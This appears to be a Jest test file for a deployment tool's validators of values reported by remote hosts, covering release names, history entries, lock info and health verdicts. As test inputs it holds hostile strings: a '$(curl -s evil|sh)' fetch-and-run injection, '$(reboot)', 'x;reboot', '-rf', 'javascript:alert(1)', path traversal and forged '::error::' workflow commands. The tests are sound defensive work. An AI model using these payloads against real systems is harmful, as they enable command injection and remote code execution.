/**
 * Issue 15, class 3: every value a host reports is checked against what it can be (readInspect, parseHistory,
 * lockHolder, healthVerdict); a key reported twice is invalid, never joined or chosen between.
 */
import { healthVerdict } from '../../src/remote/steps/healthcheck.js';
import { readInspect } from '../../src/remote/steps/inspect.js';
import { holderName, lockHolder } from '../../src/remote/steps/lock.js';
import { parseHistory, type InvalidValue } from '../../src/releases/history.js';
import { isReleaseName } from '../../src/releases/name.js';
import type { PhaseResult } from '../../src/remote/session.js';

function result(data: Record<string, string | string[]>): PhaseResult {
  const map = new Map(Object.entries(data).map(([k, v]) => [k, Array.isArray(v) ? v : [v]]));
  return {
    ok: true,
    stopped: false,
    rc: 0,
    steps: [],
    data: map,
    bytes: new Map([...map].map(([k, v]) => [k, v.map((s) => Buffer.from(s))])),
  };
}

const blob = (entries: string[]) => entries.map((e) => `${e}\0`).join('');

describe('readInspect', () => {
  test('a value reported twice (a forged second `data live` marker) is invalid: neither value is used', () => {
    const f = readInspect(result({ live: ['releases/x\n::error::forged', 'releases/20240101000000'] }));
    expect(f.live).toBeUndefined();
    expect(f.liveTarget).toBe('');
    expect(f.invalid.map((v) => v.what)).toEqual([expect.stringContaining('"live", reported 2 times')]);
  });

  test('current: releases/NAME or an absolute plain path; anything else is invalid and never the live release', () => {
    expect(readInspect(result({ live: 'releases/20240101000000' })).live).toBe('20240101000000');
    expect(readInspect(result({ live: '/var/www/app/releases/7/' })).live).toBe('7');
    const evil = readInspect(result({ live: 'releases/x$(curl -s evil|sh)' }));
    expect([evil.live, evil.liveTarget]).toEqual([undefined, '']);
    expect(evil.invalid[0]!.value).toBe('releases/x$(curl -s evil|sh)');
    const dots = readInspect(result({ live: 'releases/a..b' }));
    expect(dots.live).toBeUndefined();
    expect(dots.invalid.map((v) => v.value)).toEqual(['a..b']);
  });

  test('release directories, pending records and the base offer: release names only', () => {
    const f = readInspect(
      result({
        releases: blob([
          '1700000000\treleases/good/',
          '1700000001\treleases/x\n::error::bad/',
          'rev\treleases/good/\tabc123',
          '1700000002\treleases/r2/',
          'rev\treleases/r2/\t##[error]x',
        ]),
        partial: 'p1\n$(reboot)\n',
        'base-name': '-rf',
      }),
    );
    expect(f.dirs).toEqual(['good', 'r2']);
    expect(f.releases.find((r) => r.name === 'good')!.revision).toBe('abc123');
    expect(f.releases.find((r) => r.name === 'r2')!.revision).toBe('');
    expect([...f.partial]).toEqual(['p1']);
    expect(f.baseOffer).toBeUndefined();
    expect(f.invalid.map((v) => v.value)).toEqual(['x\n::error::bad', '##[error]x', '$(reboot)', '-rf']);
  });

  test('a blob sent twice (a manifest) is neither', () => {
    const f = readInspect(result({ 'base-name': 'r1', 'base-manifest': ['one', 'two'] }));
    expect(f.baseOffer).toEqual({ name: 'r1', manifestGz: undefined });
    expect(f.invalid).toHaveLength(1);
  });

  test('users: user names only', () => {
    expect(readInspect(result({ user: 'deploy', 'http-user': 'www-data' }))).toMatchObject({
      user: 'deploy',
      httpUser: 'www-data',
    });
    const f = readInspect(result({ user: 'a b', 'http-user': 'x;reboot' }));
    expect([f.user, f.httpUser]).toEqual(['', undefined]);
    expect(f.invalid).toHaveLength(2);
  });
});

describe('parseHistory', () => {
  const line = (o: object) => JSON.stringify(o);

  test('entries whose release is not a release name are skipped; bad name fields and text fields are dropped', () => {
    const invalid: InvalidValue[] = [];
    const h = parseHistory(
      [
        line({ event: 'deploy', release: 'a$(x)' }),
        line({
          event: 'deploy',
          release: 'r1',
          previous: 'x\ny',
          actor: '##[error]ok as text',
          at: 'line\nbreak',
          run_url: 'javascript:alert(1)',
        }),
        line({ event: 'rollback', release: 'r2', from: 'r1', to: '../etc' }),
        line({ event: 'deploy\n::error::x', release: 'r3' }),
        'torn {',
      ].join('\n'),
      (v) => invalid.push(v),
    );
    expect(h.map((e) => e.release)).toEqual(['r1', 'r2']);
    expect(h[0]).toEqual({ event: 'deploy', release: 'r1', actor: '##[error]ok as text' });
    expect(h[1]).toEqual({ event: 'rollback', release: 'r2', from: 'r1' });
    expect(invalid.map((v) => v.value)).toEqual([
      'a$(x)',
      'x\ny',
      'line\nbreak',
      'javascript:alert(1)',
      '../etc',
      'deploy\n::error::x',
    ]);
  });

  test('a plain history passes unchanged (numbers in text fields become strings)', () => {
    const e = {
      event: 'deploy',
      release: '20240101000000',
      previous: null,
      sha: 'abc',
      actor: 'mona',
      run_url: 'https://github.com/a/b/actions/runs/1',
      run_id: 7,
    };
    expect(parseHistory(line(e))).toEqual([{ ...e, run_id: '7' }]);
  });
});

describe('lockHolder', () => {
  test('fields that are not plain text, and a run_url that is not https, are left out and listed', () => {
    const info = {
      actor: 'mona\n::error::x',
      repository: 'acme/shop',
      run_id: 5,
      run_url: 'http://evil',
      started_at: '2024-01-01T00:00:00Z',
    };
    const h = lockHolder(
      new Map([
        ['lock-info', [JSON.stringify(info)]],
        ['lock-alive', ['yes']],
      ]),
    );
    expect(h.info).toEqual({ repository: 'acme/shop', run_id: '5', started_at: '2024-01-01T00:00:00Z' });
    expect(h.invalid.map((v) => v.value)).toEqual(['mona\n::error::x', 'http://evil']);
    expect(holderName(h)).toBe('acme/shop run 5');
  });

  test('a key reported twice is not chosen between', () => {
    const h = lockHolder(
      new Map([
        ['lock-info', ['{"actor":"a"}', '{"actor":"b"}']],
        ['lock-alive', ['yes', 'no']],
      ]),
    );
    expect([h.info, h.alive, h.empty]).toEqual([{}, false, true]);
  });
});

describe('healthVerdict', () => {
  test('ok attempt N and fail after N attempts; anything else (or two verdicts) is a failure', () => {
    expect(healthVerdict(result({ health: 'ok attempt 2' })).verdict).toBe('ok attempt 2');
    expect(healthVerdict(result({ health: 'fail after 3 attempts' })).verdict).toBe('fail after 3 attempts');
    const forged = healthVerdict(result({ health: 'ok <img src=x>' }));
    expect(forged.verdict).toMatch(/^fail/);
    expect(forged.invalid).toHaveLength(1);
    expect(healthVerdict(result({ health: ['fail after 1 attempts', 'ok attempt 1'] })).verdict).toMatch(/^fail/);
    expect(healthVerdict(undefined).verdict).toMatch(/^fail/);
  });
});

test('isReleaseName: the release-name rule', () => {
  for (const ok of ['20240101000000', 'v1.2.3', 'a_b-c', '7']) expect(isReleaseName(ok)).toBe(true);
  for (const bad of ['', '-rf', '.hidden', 'a..b', 'a/b', 'a b', 'x\n', 'x$(y)', 'a'.repeat(101), 5, null])
    expect(isReleaseName(bad)).toBe(false);
});
